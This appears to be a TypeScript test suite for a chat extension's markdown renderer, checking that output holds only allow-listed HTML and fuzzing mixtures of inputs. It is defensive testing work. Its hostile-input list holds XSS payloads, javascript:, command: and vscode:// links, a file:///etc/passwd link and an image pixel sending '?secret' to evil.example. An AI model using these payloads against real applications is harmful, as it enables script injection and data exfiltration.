import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { type DefaultTreeAdapterTypes, parseFragment } from "parse5";
import { createRenderer } from "../../../media/chat/markdown";

type Node = DefaultTreeAdapterTypes.ChildNode;
type Element = DefaultTreeAdapterTypes.Element;

/** Every element the page may get, with its attributes. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  ...{ p: [], strong: [], em: [], s: [], br: [], hr: [], blockquote: [], ul: [], li: [], ol: ["start"] },
  ...{ h1: [], h2: [], h3: [], h4: [], h5: [], h6: [], code: [], span: ["class"], pre: ["tabindex"] },
  ...{ table: [], thead: [], tbody: [], tr: [], th: ["style"], td: ["style"], figcaption: [] },
  ...{ figure: ["class", "role", "aria-label"], button: ["type", "data-code", "title"] },
  a: ["href", "data-href", "title"],
};

const render = createRenderer();

function elementsOf(text: string): readonly Element[] {
  const found: Element[] = [];
  const visit = (node: Node): void => {
    if ("tagName" in node) found.push(node);
    if ("childNodes" in node) node.childNodes.forEach(visit);
  };
  for (const html of render(text)) parseFragment(html).childNodes.forEach(visit);
  return found;
}

/** Fails for anything that could run, load or lead astray. */
function requireHarmless(text: string): void {
  for (const { tagName, attrs } of elementsOf(text)) {
    const allowed = ALLOWED[tagName];
    assert.ok(allowed, `<${tagName}> of ${JSON.stringify(text)}`);
    for (const { name, value } of attrs) {
      assert.ok(allowed.includes(name), `${name} of <${tagName}> of ${JSON.stringify(text)}`);
      if (name === "href") assert.equal(value, "#");
      if (name === "data-href") assert.doesNotMatch(value, /^\s*(?!https?:)[a-z][a-z0-9+-]*:(?!\d)/i);
      if (name === "style") assert.match(value, /^text-align:(left|right|center)$/);
    }
  }
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![pixel](https://evil.example/p.png?secret)",
  "![a](data:image/svg+xml;base64,PHN2Zz4=)",
  "[run](command:workbench.action.terminal.new)",
  "[run](COMMAND:x) [b](vscode://x/y) [c](file:///etc/passwd) [d](javascript:alert`1`)",
  "[e](java\nscript:alert(1)) [f](&#106;avascript:alert(1)) [g](%6aavascript:alert(1))",
  "[h](data:text/html,<script>1</script>) [i](vbscript:x) [j](//evil.example/x) [k](https://a@evil.example)",
  "<command:evil> <javascript:alert(1)> <https://ok.example>",
  '```"><script>alert(1)</script>\n</code></pre><script>alert(2)</script>\n```',
  "```html\n<img src=x onerror=alert(1)>\n```",
  "    <script>indented</script>",
  '[x](https://a.example "\\"><script>alert(1)</script>")',
  "[x]: javascript:alert(1)\n[x]",
  "| a | b |\n|:-|-:|\n| <b onclick=x>1</b> | `<i>` |",
  "<details open ontoggle=alert(1)>",
  "<!-- --><iframe srcdoc='<script>1</script>'>",
  "[../../../etc/passwd](../../../etc/passwd)",
];

for (const text of HOSTILE) {
  test(`harmless: ${JSON.stringify(text)}`, () => requireHarmless(text));
}

test("no mixture of hostile pieces does harm either", () => {
  const pieces = fc.array(fc.oneof(fc.constantFrom(...HOSTILE, "\n", "`", "<", "](", "```", "\n\n", "&"), fc.string()));
  fc.assert(
    fc.property(pieces, (texts) => requireHarmless(texts.join(""))),
    { numRuns: 300 },
  );
});

test("images are named, not loaded", () => {
  assert.equal(elementsOf("![a pixel](https://evil.example/p.png)").length, 1);
  assert.match(render("![a pixel](https://evil.example/p.png)").join(""), /\[image: a pixel\]/);
});

test("links that lead nowhere are text", () => {
  assert.match(render("[run](command:x)").join(""), /^<p>\[run\]\(command:x\)<\/p>/);
});

test("code keeps its text, whatever it is", () => {
  const code = 'if (a < b && c > d) { return "</code><script>"; }\n';
  for (const language of ["js", "python", "unknown", ""]) {
    const [html = ""] = render(`\`\`\`${language}\n${code}\`\`\``);
    const plain = html.replace(/^.*<pre[^>]*><code>/s, "").replace(/<\/code>.*$/s, "");
    const decoded = plain.replace(/<\/?span[^>]*>/g, "").replace(/&(\w+|#39|#x27);/g, (_, name: string) => {
      return { lt: "<", gt: ">", amp: "&", quot: '"' }[name] ?? "'";
    });
    assert.equal(decoded, code);
  }
});

test("an answer that grows changes only its last block", () => {
  const text = "One.\n\n```py\nx = 1\n```\n\nTwo.";
  const longer = `${text} And more.`;
  assert.deepEqual(render(longer).slice(0, -1), render(text).slice(0, -1));
  assert.notEqual(render(longer).at(-1), render(text).at(-1));
});

test("a block that is not closed yet is code already", () => {
  assert.match(render("Look:\n\n```py\nx = 1").join(""), /data-code="apply"/);
});
